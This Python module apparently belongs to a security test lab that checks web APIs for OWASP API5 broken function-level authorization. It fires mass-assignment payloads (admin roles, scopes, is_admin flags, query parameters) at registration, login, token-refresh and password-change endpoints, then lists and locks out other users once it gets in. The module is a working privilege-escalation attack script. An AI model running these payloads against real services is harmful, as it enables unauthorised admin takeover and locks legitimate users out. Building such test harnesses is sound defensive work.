"""Make yourself an admin.

Exploits a server that believes what clients say of themselves: a role among the fields of a
registration, a scope that nobody has given them, a word in the address. Whoever has an account
then lists all users, and shuts them out.
Source: OWASP API Security Top 10 2023, API5 Broken Function Level Authorization,
https://owasp.org/API-Security/editions/2023/en/0xa5-broken-function-level-authorization/
ASVS: 8.2.3, 15.3.3
"""

from collections.abc import Iterator
from typing import Any

import httpx

from attacks.lab.attack import attack
from attacks.lab.outcome import Outcome, breakdown, got_in
from attacks.lab.roles import ADMIN, ALL, USUAL, deed_requests, must_have_admins, power_of
from attacks.lab.target import Person, Target
from attacks.lab.ways_out import change_request

SCOPES = (ADMIN, ALL, f"{ADMIN} {USUAL}", f"{USUAL},{ADMIN}", [USUAL, ALL], [ALL, USUAL], "*")
WISHES: list[dict[str, Any]] = [
    {"role": "admin"},
    {"roles": ["admin"]},
    {"is_admin": True},
    {"user": {"role": "admin"}},
    {"disabled": False},
    {"scopes": [ALL]},
    *({"scope": scope} for scope in SCOPES),
    {"scope": ADMIN, "role": "admin"},
]
ADDRESS = {"role": "admin", "roles": "admin", "is_admin": "true", "scope": ALL}
Try = tuple[str, Person, httpx.Request]


def doors(target: Target, own: Person, wish: dict[str, Any]) -> Iterator[Try]:
    """Send a wish beside all that is right, wherever a client sends something."""
    new, same = Person(), {"current_password": own.password, "new_password": own.password}
    body = {**new.registration(), **wish}
    yield "register", new, target.http.build_request("POST", "/auth/register", json=body)
    yield "log in", own, target.login_request(own.username, own.password, **wish)
    used_up = target.tokens_of(own).get("refresh_token", "")
    yield "renew", own, target.refresh_request(used_up, wish)
    yield "new password", own, change_request(target, target.token_of(own), {**same, **wish})


def tricks(target: Target, own: Person, other: Person) -> Iterator[Try]:
    """Make each wish at each door; then all in the address, also where admins alone may go."""
    for wish in WISHES:
        for door, person, request in doors(target, own, wish):
            yield f"{door} with {wish}", person, request
    deeds = deed_requests(target, target.token_of(own), other).items()
    at_once = [(deed, own, request) for deed, request in deeds]
    for door, person, request in (*at_once, *doors(target, own, {})):
        request.url = request.url.copy_merge_params(ADDRESS)
        yield f"{door} with words in the address", person, request


@attack()
def run(target: Target) -> Outcome:
    """Try one after the other; see what its tokens may, and those of a log-in after it."""
    must_have_admins(target)
    own, other, answers = target.enrol(), target.enrol(), {}
    for trick, person, request in tricks(target, own, other):
        answer = answers[trick] = target.http.send(request)
        if answer.is_success and request.url.path.startswith("/users"):
            return got_in(f"{trick}: {answer.status_code}")
        for reply in (answer, target.log_in(person.username, person.password, scope=ALL)):
            if b"access_token" in reply.content and (
                power := power_of(target, reply.json(), other)
            ):
                return got_in(f"{trick}: {power}")
    return breakdown(answers, f"{len(answers)} wishes: nobody becomes an admin")
